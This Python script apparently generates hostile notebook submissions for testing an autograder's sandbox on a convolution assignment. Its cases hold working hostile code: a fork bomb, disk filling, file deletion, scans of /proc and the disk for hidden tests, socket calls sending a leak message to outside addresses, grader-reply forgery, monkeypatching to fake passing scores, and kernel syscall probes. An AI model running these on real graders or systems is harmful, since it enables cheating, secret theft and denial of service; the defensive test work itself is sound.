"""Write the hostile submissions of 01_convolution, one notebook per behaviour.

    .venv/bin/python tests/hostile/make_corpus.py [--out-dir DIR]

Each notebook is the real solution (or the released notebook) with one hostile change: an extra cell,
a function replaced, edited metadata, or not a notebook at all. ``expected.yml`` beside them states
each one's expected outcome; ``tests/test_hostile.py`` grades them all in one batch and checks it.
The 200 MB notebook is not committed: :func:`write_huge_notebook` makes it at test time.

Markers the tests look for: ``LEAK:`` prefixes any text derived from a hidden test's inputs,
``ag-hostile-fake`` names the fake results files, ``ag-hostile-bg`` and ``sleep 31415`` name the
background processes that must not survive.
"""

from __future__ import annotations

import argparse
import copy
import json
from collections.abc import Callable
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent
SOLUTION = REPO / "solutions" / "01_convolution" / "convolution.ipynb"
RELEASED = REPO / "assignments" / "01_convolution" / "convolution.ipynb"
VICTIM = "VICTIM-SECRET-7f3a"  # in victim_submission only
LISTEN_PORT = 47913  # tests/test_hostile.py listens here on 127.0.0.1 while the batch runs

Notebook = nbformat.NotebookNode

# --- building blocks -----------------------------------------------------------------------------


def solution() -> Notebook:
    return nbformat.read(str(SOLUTION), 4)


def released() -> Notebook:
    return nbformat.read(str(RELEASED), 4)


def cell_of(nb: Notebook, grade_id: str) -> int:
    for i, c in enumerate(nb.cells):
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def with_cell(source: str, base: Notebook | None = None) -> Notebook:
    """The notebook (default: the solution) with one extra code cell at the end."""
    nb = copy.deepcopy(base) if base is not None else solution()
    nb.cells.append(nbformat.v4.new_code_cell(source, id="hostile-cell"))  # a fixed id: the corpus is reproducible
    return nb


def replacing(grade_id: str, source: str, base: Notebook | None = None) -> Notebook:
    """The notebook (default: the solution) with the solution cell ``grade_id`` replaced."""
    nb = copy.deepcopy(base) if base is not None else solution()
    nb.cells[cell_of(nb, grade_id)].source = source
    return nb


# Every graded function, returning wrong but plausible values (no hidden test can pass with them).
WRONG_ANSWERS = '''import numpy as np

def output_size(n, f, stride=1, padding=0):
    return 0

def zero_pad(image, pad):
    return np.zeros((1, 1))

def convolve2d(image, kernel, stride=1, padding="valid"):
    return np.zeros((1, 1))

def common_kernel(name):
    return np.zeros((3, 3))

def relu(x):
    return np.full(np.shape(x), -1.0)

def sigmoid(x):
    return np.full(np.shape(x), -1.0)

def leaky_relu(x, alpha=0.1):
    return np.full(np.shape(x), -1.0)

def pool2d(x, size=2, stride=None, mode="max"):
    return np.zeros((1, 1))

def conv2d_layer(x, kernels, bias, stride=1, padding="valid"):
    return np.zeros((1, 1, 1))
'''

COMMON_KERNEL_OK = '''
    kernels = {"sharpen": [[0, -1, 0], [-1, 5, -1], [0, -1, 0]],
               "blur": [[0.0625, 0.125, 0.0625], [0.125, 0.25, 0.125], [0.0625, 0.125, 0.0625]],
               "bottom_sobel": [[-1, -2, -1], [0, 0, 0], [1, 2, 1]]}
'''


def common_kernel_doing(body: str) -> str:
    """A cell that redefines common_kernel (1 point, a leaf: nothing else calls it) to do ``body``."""
    return "def common_kernel(name):\n" + "".join(f"    {line}\n" for line in body.strip().splitlines())


def with_common_kernel(body: str) -> Notebook:
    return with_cell(common_kernel_doing(body))


# --- the cases -----------------------------------------------------------------------------------
SEARCH_DISK = '''import os, time
VICTIM = "VICTIM" + "-SECRET-7f3a"  # (split: this cell must not match itself)
FOUND = []
t0 = time.time()
roots = ["/job", "/tmp", "/work", "/home", "/root", "/srv", "/opt", "/var", "/mnt", "/usr/src", "/"]
for pid in os.listdir("/proc"):
    try:
        roots.insert(0, os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass
done = set()
for top in roots:
    for root, dirs, files in os.walk(top):
        if root in done or root.startswith(("/proc", "/sys", "/dev")) or time.time() - t0 > 3:
            dirs[:] = []
            continue
        done.add(root)
        for name in files:
            if name.endswith((".py", ".ipynb", ".json", ".yml", ".csv")):
                path = os.path.join(root, name)
                try:
                    with open(path, errors="replace") as f:
                        text = f.read(20000)
                except OSError:
                    continue
                if any(word in text for word in ("@question(", "BEGIN SOLUTION", '"score"', VICTIM)):
                    FOUND.append(path + "\\n" + text)
print(f"FOUND {len(FOUND)} files")
print("\\n".join(FOUND))


def common_kernel(name):
''' + COMMON_KERNEL_OK + '''    if name not in kernels:
        raise ValueError("FOUND:" + "\\n".join(FOUND)[:1500])
    return np.array(kernels[name], dtype=float)


raise RuntimeError("FOUND:" + "\\n".join(FOUND)[:1500])
'''

IMPORT_AUTOGRADER = '''import glob, os, sys
attempts = []
candidates = ["/work/main", "/job", "/opt/ag", "/app", "/srv", "/src"]
for sp in [p for p in sys.path if "site-packages" in p]:
    for f in glob.glob(sp + "/*.pth") + glob.glob(sp + "/__editable__*finder.py"):
        try:
            with open(f) as fh:
                text = fh.read()
            attempts.append(f + ": " + text[:300])
            if f.endswith("finder.py"):
                scope = {"__name__": "finder"}
                exec(compile(text, f, "exec"), scope)
                scope["install"]()
        except Exception as e:
            attempts.append(f"{f}: {type(e).__name__}: {e}")
    p = sp
    while p != "/":
        p = os.path.dirname(p)
        candidates.append(p)
sys.path.extend(c for c in candidates if c not in sys.path)
try:
    import autograder.hidden
    import autograder.config
    d = os.path.join(os.path.dirname(autograder.__file__), "hidden", "01_convolution")
    for f in sorted(os.listdir(d)):
        with open(os.path.join(d, f)) as fh:
            attempts.append(fh.read())
    attempts.append("IMPORTED " + autograder.__file__)
except Exception as e:
    attempts.append(f"import failed: {type(e).__name__}: {e}")
print("\\n".join(attempts))
raise RuntimeError("AUTOGRADER:" + attempts[-1][:200] + " | " + " | ".join(attempts[:-1])[:1500])
'''

READ_PROC = '''import os
seen = []
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("cmdline", "environ", "cwd", "root", "maps"):
        path = f"/proc/{pid}/{what}"
        try:
            if what in ("cwd", "root"):
                value = os.readlink(path) + " -> " + ",".join(os.listdir(path)[:20])
            else:
                with open(path, "rb") as f:
                    value = f.read(3000).replace(b"\\0", b" ").decode(errors="replace")
        except OSError as e:
            value = type(e).__name__
        seen.append(f"{pid} {what}: {value}")
print("\\n".join(seen))
raise RuntimeError("PROC:" + " | ".join(seen)[:1500])
'''

FAKE_RESULTS = '''import json, os
fake = {"score": 1000, "max_score": 20, "status": "graded", "tests": [], "student": "ag-hostile-fake"}
targets = {"/tmp", "/var/tmp", "/dev/shm", "/job", os.getcwd(), os.path.abspath(".."),
           os.path.abspath("../.."), os.path.expanduser("~"), "/work/main", "/", "/opt/ag"}
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = [a.decode(errors="replace") for a in f.read().split(b"\\0")]
    except OSError:
        continue
    for a in args:
        if a.startswith("/"):
            targets.update({a, os.path.dirname(a)})
written = []
for t in sorted(targets):
    for name in ("ag-hostile-fake-results.json", "ag-hostile-fake/results.json"):
        path = os.path.join(t, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                json.dump(fake, f)
            written.append(path)
        except OSError:
            pass
print("wrote", written)
'''

BACKGROUND = '''import ctypes, os, subprocess, time
subprocess.Popen(["sleep", "31415"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"ag-hostile-bg", 0, 0, 0)  # PR_SET_NAME
        while True:
            time.sleep(0.2)
    os._exit(0)
os.waitpid(pid, 0)
'''

FORK_BOMB = '''import ctypes, os, time
while True:
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"ag-hostile-bg", 0, 0, 0)  # PR_SET_NAME
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.5)
'''

THREAD = '''import threading, time
TICKS = [0]
def _spin():
    while True:
        TICKS[0] += 1
        print("tick", TICKS[0])
        time.sleep(0.05)
threading.Thread(target=_spin, daemon=False).start()
'''

NETWORK = f'''import socket
results = []
for host, port in [("127.0.0.1", {LISTEN_PORT}), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    s = socket.socket()
    s.settimeout(1)
    try:
        s.connect((host, port))
        s.sendall(b"LEAK: hello from the worker")
        results.append(f"connected to {{host}}:{{port}}")
    except OSError as e:
        results.append(f"{{host}}:{{port}} {{type(e).__name__}}")
    finally:
        s.close()
try:
    results.append(str(socket.getaddrinfo("example.com", 80)))
except OSError as e:
    results.append(f"dns {{type(e).__name__}}")
print(results)
'''

FILL_DISK = '''import os
written = 0
try:
    for i in range(100000):
        with open(f"filler_{i}.bin", "wb") as f:
            for _ in range(64):
                f.write(b"\\0" * (1 << 20))
                written += 1 << 20
finally:
    print("wrote", written >> 20, "MiB")
'''

EVIL_SUBCLASS = '''import numpy as np

class Evil(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True
    def __array_function__(self, func, types, args, kwargs):
        return True

def _evil(shape):
    return np.zeros(shape).view(Evil)

def output_size(n, f, stride=1, padding=0):
    return _evil(())

def zero_pad(image, pad):
    return _evil(np.shape(image))

def convolve2d(image, kernel, stride=1, padding="valid"):
    return _evil(np.shape(image))

def common_kernel(name):
    return _evil((3, 3))

def relu(x):
    return _evil(np.shape(x))

def sigmoid(x):
    return _evil(np.shape(x))

def leaky_relu(x, alpha=0.1):
    return _evil(np.shape(x))

def pool2d(x, size=2, stride=None, mode="max"):
    return _evil(np.shape(x))

def conv2d_layer(x, kernels, bias, stride=1, padding="valid"):
    return _evil(np.shape(x))
'''

ALWAYS_EQUAL = '''class AlwaysEqual:
    shape = property(lambda self: (3, 3))
    dtype = property(lambda self: float)
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.zeros((3, 3))

def output_size(n, f, stride=1, padding=0):
    return AlwaysEqual()

zero_pad = convolve2d = common_kernel = relu = sigmoid = leaky_relu = pool2d = conv2d_layer = (
    lambda *args, **kwargs: AlwaysEqual())
'''

PATCH_NUMPY = '''import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
try:
    np.ndarray.__eq__ = lambda self, other: True
except TypeError as e:
    print(e)
'''

PATCH_BUILTINS = '''import builtins
builtins.isinstance = lambda obj, cls: True
builtins.round = lambda x, n=None: x
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.__import__ = (lambda real: lambda name, *a, **k: real(name, *a, **k))(builtins.__import__)
'''

ECHO_INPUTS = '''def _leak(name, args, kwargs):
    text = "LEAK:" + name + repr(args)[:300] + repr(kwargs)
    print(text)
    raise ValueError(text)

def output_size(*args, **kwargs): _leak("output_size", args, kwargs)
def zero_pad(*args, **kwargs): _leak("zero_pad", args, kwargs)
def convolve2d(*args, **kwargs): _leak("convolve2d", args, kwargs)
def common_kernel(*args, **kwargs): _leak("common_kernel", args, kwargs)
def relu(*args, **kwargs): _leak("relu", args, kwargs)
def sigmoid(*args, **kwargs): _leak("sigmoid", args, kwargs)
def leaky_relu(*args, **kwargs): _leak("leaky_relu", args, kwargs)
def pool2d(*args, **kwargs): _leak("pool2d", args, kwargs)
def conv2d_layer(*args, **kwargs): _leak("conv2d_layer", args, kwargs)
'''

# Inputs smuggled out through text the grader might quote: an exception's type name, a returned
# string, the name of an unsendable class.
LEAK_BY_TYPE_NAME = '''def output_size(*args, **kwargs):
    raise type("LEAK:" + repr(args)[:80], (Exception,), {})()
'''
LEAK_BY_RETURN_VALUE = '''def output_size(*args, **kwargs):
    return "LEAK:" + repr(args)[:80]
'''
LEAK_BY_CLASS_NAME = '''def output_size(*args, **kwargs):
    return type("LEAK:" + repr(args)[:80], (), {})()
'''

CHMOD = '''import os
os.makedirs("locked/deeper", exist_ok=True)
open("locked/deeper/f", "w").close()
for root, dirs, files in os.walk(".", topdown=False):
    for n in dirs + files + ["."]:
        try:
            os.chmod(os.path.join(root, n), 0)
        except OSError as e:
            print(e)
'''

FAKE_SCORE = '''print("**Score:** 20 / 20  \\n**Status:** graded\\nAll hidden tests passed. Well done!")
print('{"score": 20.0, "max_score": 20.0, "status": "graded"}')
'''


def v3(nb: Notebook) -> str:
    return nbformat.writes(nbformat.convert(nb, 3), version=3)


def points_raised() -> Notebook:
    nb = solution()
    for c in nb.cells:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000
    return nb


def test_cells_deleted() -> Notebook:
    nb = solution()
    nb.cells = [c for c in nb.cells if not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    return nb


def test_cells_edited() -> Notebook:
    """Stubs, with every visible test cell replaced by `pass` and its metadata stripped."""
    nb = released()
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
            c.source = "pass  # the tests all pass now"
            c.metadata = {}
    return nb


def solution_cells_marked_as_tests() -> Notebook:
    """The solution, with every solution cell's metadata edited to look like a locked test cell."""
    nb = solution()
    for c in nb.cells:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution"):
            meta.update({"solution": False, "grade": True, "locked": True, "points": 1000})
    return nb


def missing_function() -> Notebook:
    nb = solution()
    del nb.cells[cell_of(nb, "common_kernel_code")]
    return nb


# Aimed at grading a dependent question with the course's convolve2d (course.yml: dependent_questions):
# convolve2d always fails, so conv2d_layer is graded with the course's own convolve2d in the student's place.
BROKEN_CONVOLVE2D = '''def convolve2d(image, kernel, stride=1, padding="valid"):
    raise ValueError("my convolve2d is broken")
'''
# ... after shadowing a builtin the course's code needs at definition time (`int | tuple[int, int]`): the course's
# convolve2d runs in a worker of its own, so conv2d_layer is still graded with it.
SHADOW_TUPLE = "tuple = None  # the course's convolve2d cannot be defined in this namespace any more\n"
# ... and a conv2d_layer that prints and saves the source of the course's convolve2d it was given.
STEAL_REFERENCE = '''import inspect

_original_conv2d_layer = conv2d_layer


def conv2d_layer(x, kernels, bias, stride=1, padding="valid"):
    try:
        source = inspect.getsource(convolve2d)
    except (OSError, TypeError):
        source = ""
    print("STOLEN:", source)
    with open("stolen_reference.py", "w") as f:
        f.write(source)
    return _original_conv2d_layer(x, kernels, bias, stride, padding)
'''

# ... and a conv2d_layer that hunts for the course's convolve2d (its source, its code's constants, any string in
# the process that looks like it) and forges the worker's reply to the grader: the right value, with the loot and
# the hidden input it was given in every field the grader might quote (a changed argument's name, a warning's
# class and text), then ends its process so that the worker's own reply never comes. Once: on one hidden input.
FORGE_REPLIES = '''import gc, inspect, os, stat, fcntl

_honest_conv2d_layer = conv2d_layer


def _loot():
    found = []
    try:
        found.append(inspect.getsource(convolve2d))
    except (OSError, TypeError):
        pass
    code = getattr(convolve2d, "__code__", None)
    found += [c for c in getattr(code, "co_consts", ()) if isinstance(c, str)]
    for cell in getattr(convolve2d, "__closure__", None) or ():
        try:
            found.append(repr(cell.cell_contents)[:2000])
        except ValueError:
            pass
    found += [o for o in gc.get_objects() if isinstance(o, str) and "BEGIN SOLUTION" in o]
    text = " | ".join(found)
    return text.split("BEGIN SOLUTION", 1)[-1].strip()  # the solution's body, where there is one


def _wire_and_reply_fd():
    wire = next(m for m in gc.get_objects() if type(m).__name__ == "module"
                and getattr(m, "__name__", "") == "_autograder_wire")
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return wire, fd
        except OSError:
            continue
    raise RuntimeError("no reply channel")


def conv2d_layer(x, kernels, bias, stride=1, padding="valid"):
    value = _honest_conv2d_layer(x, kernels, bias, stride, padding)
    if getattr(x, "shape", None) != (7, 8, 3):
        return value
    loot = "LEAK:" + repr(round(float(x.ravel()[0]), 3)) + " " + " ".join(_loot().split())
    wire, fd = _wire_and_reply_fd()
    wire.write_message(fd, {"ok": True, "value": value, "warnings_total": 1,
                            "warnings": [{"category": loot[:100], "module": "builtins", "message": loot}],
                            "mutated": ["kwargs['" + loot[:150] + "']", "args[0]" + loot],
                            "unchecked": ["kwargs['" + loot[:150] + "']"]}, wire.Extensions())
    os._exit(0)
'''


def many_failing_cells(n: int = 1500) -> Notebook:
    """The solution and ``n`` one-line cells that raise an error with a long message: unbounded, they made a
    3 MiB results.json and 0.5 MiB of feedback."""
    nb = solution()
    nb.cells += [nbformat.v4.new_code_cell(f"raise ValueError('cell {i} ' + 'x' * 5000)", id=f"failing-{i}")
                 for i in range(n)]
    return nb


# Terminal escape sequences (retitle the window, clear the screen, colour) printed and in an error message.
ESCAPES = 'print("\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred\\x9b2J")\nraise ValueError("\\x1b]0;pwned\\x07")\n'


# The kernel (issue 20). A call stores its arguments in keyrings (the uid's user and user-session keyrings outlive
# its processes; the session keyring was the grader's), then kills its worker; the cells replayed in the fresh
# worker read them back: found, they sabotage relu and raise them.
KEYRING_STASH = '''import ctypes, os
_LIBC = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
_RINGS = (-4, -5, -3)  # user, user-session, session
_NAME = b"ag-hostile-fake-stash"


def _sys(nr, *args):
    return _LIBC.syscall(ctypes.c_long(nr), *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in args))


def _stash(text):
    data = text.encode()
    for ring in _RINGS:
        _sys(_ADD_KEY, b"user", _NAME, data, len(data), ring)


def _stashed():
    for ring in _RINGS:
        key = _sys(_KEYCTL, 10, ring, b"user", _NAME, 0)  # KEYCTL_SEARCH
        if key > 0:
            buf = ctypes.create_string_buffer(1000)
            n = _LIBC.syscall(ctypes.c_long(_KEYCTL), ctypes.c_long(11), ctypes.c_long(key), buf, ctypes.c_long(1000))
            return buf.raw[:max(n, 0)].decode(errors="replace")
    return None


_loot = _stashed()  # in the fresh worker after the crash below: what the crashed call stored
if _loot is not None:
    def relu(x):
        raise ValueError(_loot)
    raise RuntimeError(_loot)


def common_kernel(name):
    _stash("LEAK:" + repr(name))
    os._exit(1)
'''
# System calls a notebook never needs (each must fail with EPERM, the seccomp filter's answer): one that reaches
# the kernel (succeeds or fails otherwise) costs common_kernel's point.
KERNEL_CALLS = '''import ctypes, errno, os
_LIBC = ctypes.CDLL(None, use_errno=True)
_NR = {"x86_64": dict(ptrace=101, process_vm_readv=310, unshare=272, bpf=321, userfaultfd=323, perf_event_open=298,
                      io_uring_setup=425, keyctl=250, add_key=248),
       "aarch64": dict(ptrace=117, process_vm_readv=270, unshare=97, bpf=280, userfaultfd=282, perf_event_open=241,
                       io_uring_setup=425, keyctl=219, add_key=217)}[os.uname().machine]
REACHED = []


def _try(what, name, *args):
    ret = _LIBC.syscall(ctypes.c_long(_NR[name]), *(ctypes.c_long(a) for a in args))
    err = ctypes.get_errno()
    if ret >= 0 or err != errno.EPERM:
        REACHED.append(what)
    print(what, "ESCAPED" if ret >= 0 else os.strerror(err))


# every other process it can see (a warm worker's zygote and monitor are not among them: other PID namespace)
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    _try(f"ptrace attach {pid}", "ptrace", 16, pid, 0, 0)
_try("process_vm_readv of itself", "process_vm_readv", os.getpid(), 0, 0, 0, 0, 0)
_try("unshare a user namespace", "unshare", 0x10000000)
_try("bpf", "bpf", 0, 0, 0)
_try("userfaultfd", "userfaultfd", 1)
_try("perf_event_open", "perf_event_open", 0, 0, -1, -1, 0)
_try("io_uring_setup", "io_uring_setup", 1, 0)
_try("keyctl", "keyctl", 0, -3, 0)
_try("add_key", "add_key", 0, 0, 0, 0, -3)
if REACHED:
    def common_kernel(name):
        return "reached the kernel: " + ", ".join(REACHED)
'''


def nb_text(nb: Notebook) -> str:
    for c in nb.cells:  # outputs play no part in grading: keep the fixtures small
        if c.cell_type == "code":
            c.outputs, c.execution_count = [], None
    return nbformat.writes(nb)


CASES: dict[str, Callable[[], str | bytes]] = {
    "sabotage_the_reference_substitution": lambda: nb_text(with_cell(
        SHADOW_TUPLE, replacing("convolve2d_code", BROKEN_CONVOLVE2D))),
    "steal_the_reference_convolve2d": lambda: nb_text(with_cell(
        STEAL_REFERENCE, replacing("convolve2d_code", BROKEN_CONVOLVE2D))),
    "forge_replies_with_the_reference_convolve2d": lambda: nb_text(with_cell(
        FORGE_REPLIES, replacing("convolve2d_code", BROKEN_CONVOLVE2D))),
    # runaway code
    "infinite_loop_top_level": lambda: nb_text(with_cell("while True:\n    pass\n")),
    "infinite_loop_in_function": lambda: nb_text(with_common_kernel("while True:\n    pass")),
    "sleep_top_level": lambda: nb_text(with_cell("import time\ntime.sleep(3600)\n")),
    "sleep_in_function": lambda: nb_text(with_common_kernel("import time\ntime.sleep(3600)")),
    "input_top_level": lambda: nb_text(with_cell('answer = input("Your name? ")\n')),
    "input_in_function": lambda: nb_text(with_common_kernel('return input("kernel? ")')),
    "fork_bomb": lambda: nb_text(with_cell(FORK_BOMB)),
    "huge_allocation_top_level": lambda: nb_text(with_cell("import numpy as np\nbig = np.ones((200_000, 200_000))\n")),
    # np.zeros, not np.ones: RLIMIT_DATA counts address space, which zeros fill at once (the kernel hands out zeroed
    # pages lazily); writing 1 GB took 3.3 s of a free core here, and past the test's 10 s cell on a loaded CI run
    "memory_leak_until_the_limit": lambda: nb_text(with_cell(
        "import numpy as np\nhoard = []\nwhile True:\n    hoard.append(np.zeros(10_000_000))\n")),
    "huge_allocation_in_function": lambda: nb_text(with_common_kernel("return bytearray(64 * 2**30)")),
    "fill_the_disk": lambda: nb_text(with_cell(FILL_DISK)),
    "output_100mb": lambda: nb_text(with_cell('for _ in range(100_000):\n    print("x" * 1000)\n')),
    "output_flood_in_function": lambda: nb_text(with_common_kernel(
        'print("y" * 20_000_000)\n' + COMMON_KERNEL_OK.strip() + "\nif name not in kernels:\n"
        "    raise ValueError(name)\nreturn np.array(kernels[name], float)")),
    # the process goes away
    "os_exit_top_level": lambda: nb_text(with_cell("import os\nos._exit(0)\n")),
    "os_exit_in_function": lambda: nb_text(with_common_kernel("import os\nos._exit(0)")),
    "sys_exit_top_level": lambda: nb_text(with_cell("import sys\nsys.exit(1)\n")),
    "sys_exit_in_function": lambda: nb_text(with_common_kernel("import sys\nsys.exit(0)")),
    "keyboard_interrupt_top_level": lambda: nb_text(with_cell("raise KeyboardInterrupt\n")),
    "keyboard_interrupt_in_function": lambda: nb_text(with_common_kernel("raise KeyboardInterrupt")),
    "sigterm_ignored": lambda: nb_text(with_cell(
        "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)\n\n"
        + common_kernel_doing("while True:\n    pass"))),
    "setsid_background_process": lambda: nb_text(with_cell(BACKGROUND)),
    "thread_keeps_running": lambda: nb_text(with_cell(THREAD)),
    "segfault_top_level": lambda: nb_text(with_cell("import ctypes\nctypes.string_at(0)\n")),
    "segfault_in_function": lambda: nb_text(with_common_kernel("import ctypes\nreturn ctypes.string_at(0)")),
    "deep_recursion_in_function": lambda: nb_text(with_common_kernel("return common_kernel(name)")),
    "deep_recursion_crash_top_level": lambda: nb_text(with_cell(
        "import sys\nsys.setrecursionlimit(10**8)\nclass Deep:\n    def __repr__(self):\n        return repr(self)\n"
        "repr(Deep())\n")),
    "closes_the_workers_pipes": lambda: nb_text(with_cell("import os\nos.closerange(3, 1024)\n")),
    # cheating on values
    "monkeypatch_numpy": lambda: nb_text(with_cell(PATCH_NUMPY + "\n" + WRONG_ANSWERS, released())),
    "monkeypatch_builtins": lambda: nb_text(with_cell(WRONG_ANSWERS + "\n" + PATCH_BUILTINS, released())),
    "eq_always_true": lambda: nb_text(with_cell(ALWAYS_EQUAL, released())),
    "ndarray_subclass": lambda: nb_text(with_cell(EVIL_SUBCLASS, released())),
    "nan_and_inf": lambda: nb_text(with_cell(
        "def relu(x):\n    out = np.where(np.asarray(x, float) > 0, x, 0.0)\n    out.flat[0] = np.nan\n"
        "    return out\n\n"
        "def sigmoid(x):\n    return np.full(np.shape(x), np.inf)\n")),
    "shapes_that_broadcast": lambda: nb_text(with_common_kernel("return np.array([[1.0, 2.0, 1.0]])")),
    "oversized_return_value": lambda: nb_text(with_common_kernel("return list(range(200_000))")),
    "print_fake_score": lambda: nb_text(with_cell(FAKE_SCORE, released())),
    # looking for secrets
    "search_disk_for_hidden_tests": lambda: nb_text(with_cell(SEARCH_DISK)),
    "import_autograder_package": lambda: nb_text(with_cell(IMPORT_AUTOGRADER)),
    "read_proc_of_other_processes": lambda: nb_text(with_cell(READ_PROC)),
    "echo_hidden_inputs": lambda: nb_text(with_cell(ECHO_INPUTS, released())),
    "leak_inputs_by_exception_type_name": lambda: nb_text(with_cell(LEAK_BY_TYPE_NAME)),
    "leak_inputs_by_returned_string": lambda: nb_text(with_cell(LEAK_BY_RETURN_VALUE)),
    "leak_inputs_by_unsendable_class_name": lambda: nb_text(with_cell(LEAK_BY_CLASS_NAME)),
    "network_socket": lambda: nb_text(with_cell(NETWORK)),
    # the kernel (issue 20): keyrings, ptrace and the other calls the seccomp filter refuses
    "keyring_stash_across_the_crash": lambda: nb_text(with_cell(KEYRING_STASH)),
    "ptrace_the_zygote": lambda: nb_text(with_cell(KERNEL_CALLS)),
    # tampering with the grader's surroundings
    "write_fake_results_everywhere": lambda: nb_text(with_cell(FAKE_RESULTS)),
    "delete_files_in_cwd": lambda: nb_text(with_cell(
        "import os, shutil\nfor f in os.listdir('.'):\n    try:\n        shutil.rmtree(f) if os.path.isdir(f) "
        "else os.remove(f)\n    except OSError as e:\n        print(f, e)\n")),
    "chmod_files_in_cwd": lambda: nb_text(with_cell(CHMOD)),
    "change_cwd": lambda: nb_text(with_cell("import os\nos.chdir('/')\n")),
    "drop_numpy_py_and_crash": lambda: nb_text(with_cell(
        "with open('numpy.py', 'w') as f:\n    f.write('raise SystemExit(\"fake numpy\")')\n"
        "import importlib, os\nimportlib.invalidate_caches()\nos._exit(3)\n")),
    "drop_sitecustomize_py": lambda: nb_text(with_cell(
        "for name in ('sitecustomize.py', 'usercustomize.py'):\n    with open(name, 'w') as f:\n"
        "        f.write('import os\\nos._exit(7)\\n')\n")),
    "drop_conftest_py": lambda: nb_text(with_cell(
        "with open('conftest.py', 'w') as f:\n    f.write('def pytest_runtest_makereport(item, call):\\n"
        "    raise SystemExit(\"conftest\")\\n')\n")),
    "edit_sys_path_and_modules": lambda: nb_text(with_cell(
        "import sys, types\nsys.path[:] = ['/nonexistent']\nfake = types.ModuleType('numpy')\n"
        "sys.modules['numpy'] = fake\nsys.modules['json'] = fake\n")),
    # an ordinary good submission in the same batch, whose text must reach no one else's feedback
    "victim_submission": lambda: nb_text(with_cell(f"# {VICTIM}: my own work, not to be read by others\n")),
    # not what a notebook should be
    "malformed_json": lambda: '{"cells": [{"cell_type": "code", "source": "x = 1"',
    "nbformat_v3": lambda: v3(solution()),
    "empty_file": lambda: b"",
    "binary_file": lambda: bytes(range(256)) * 64,
    "missing_function": lambda: nb_text(missing_function()),
    "wrong_signature": lambda: nb_text(with_cell("def common_kernel():\n    return np.eye(3)\n")),
    "nbgrader_points_raised": lambda: nb_text(points_raised()),
    "test_cells_deleted": lambda: nb_text(test_cells_deleted()),
    "test_cells_edited": lambda: nb_text(test_cells_edited()),
    "solution_cells_marked_as_tests": lambda: nb_text(solution_cells_marked_as_tests()),
    # output sizes and terminal control (issue 20): bounded files, control characters shown as escapes
    "fifteen_hundred_failing_cells": lambda: nb_text(many_failing_cells()),
    "escape_sequences_in_output": lambda: nb_text(with_cell(ESCAPES)),
}


def write_huge_notebook(path: Path, megabytes: int = 200) -> Path:
    """A valid notebook of about ``megabytes`` MB (one cell with a huge output): made at test time."""
    nb = solution()
    blob = "x" * (1 << 20)
    nb.cells[0 if nb.cells[0].cell_type == "code" else 1].outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=blob) for _ in range(megabytes)
    ]
    with path.open("w", encoding="utf-8") as f:
        json.dump(nb, f)
    return path


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out-dir", type=Path, default=HERE, help="where to write (default: %(default)s)")
    out = parser.parse_args(argv).out_dir
    out.mkdir(parents=True, exist_ok=True)
    for name, build in CASES.items():
        data = build()
        path = out / f"{name}.ipynb"
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8")
    print(f"wrote {len(CASES)} notebooks to {out}")


if __name__ == "__main__":
    main()
